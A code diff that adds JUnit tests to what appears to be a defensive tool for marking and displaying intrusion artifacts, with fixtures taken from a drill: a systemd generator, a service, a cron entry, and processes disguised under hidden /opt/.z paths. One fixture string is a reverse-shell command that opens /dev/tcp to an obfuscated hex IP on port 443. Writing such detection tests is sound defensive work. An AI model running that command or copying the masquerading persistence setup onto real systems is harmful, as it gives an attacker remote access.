@@ -35,6 +35,7 @@ import java.nio.file.Path;
 import java.time.Instant;
 import java.util.Comparator;
 import java.util.List;
+import java.util.Map;
 import java.util.Optional;
 import java.util.Set;
 import java.util.stream.Stream;
@@ -132,6 +133,56 @@ final class MarkedHistoryTest {
     private List<Mark> marks(Item item) {
         Sought sought = marking().ofItems(agent(0), List.of(item.key()), Optional.empty(), List.of());
         return assertInstanceOf(Sought.Items.class, sought).marks();
+    }
+
+    /** A drill by others: script, unit and link of one generator were refused as three things. */
+    @Test
+    void whatIsCalledSoInAllItsPartsIsMarkedByThatName() {
+        String script = "/usr/lib/systemd/system-generators/makecon";
+        String unit = "/run/systemd/generator/makecon.service";
+        Item other = item(
+                "linux",
+                "linux.cron.d",
+                "/opt/b/makecon",
+                "@daily root /opt/b/makecon",
+                "/etc/cron.d/b",
+                "/opt/b/makecon");
+        put(
+                item("linux", "linux.systemd.generator", "makecon", "", script, script),
+                item(
+                        "linux",
+                        "linux.systemd.service",
+                        "makecon.service:ExecStart",
+                        "/usr/sbin/fixcon",
+                        unit,
+                        "/usr/sbin/fixcon"),
+                item(
+                        "linux",
+                        "linux.systemd.service",
+                        "multi-user.target.wants/makecon.service",
+                        unit,
+                        "/run/systemd/generator/multi-user.target.wants/makecon.service",
+                        unit));
+        assertEquals(
+                3,
+                assertInstanceOf(Sought.Items.class, called("makecon")).marks().size());
+        put(other);
+        assertInstanceOf(Sought.Several.class, called("makecon"));
+    }
+
+    private Sought called(String name) {
+        return marking().ofItems(agent(0), List.of(), Optional.empty(), List.of(name));
+    }
+
+    /** The same: a process whose program is the system's was shown as that program, as if bash were the attacker's. */
+    @Test
+    void aProcessThatDoesAsItIsToldIsShownByWhatItWasTold() {
+        String told = "bash -c 'exec 5<>/dev/tcp/0x2d894166/443'";
+        assertEquals(told, Marking.shown(Map.of("Image", "/usr/bin/bash", "CommandLine", told)));
+        assertEquals(
+                "python3 /opt/.z/a.py",
+                Marking.shown(Map.of("Image", "/usr/bin/python3.13", "CommandLine", "python3 /opt/.z/a.py")));
+        assertEquals("/opt/.z/kswapd", Marking.shown(Map.of("Image", "/opt/.z/kswapd", "CommandLine", "kswapd0")));
     }
 
     private List<String> related(Item item) {
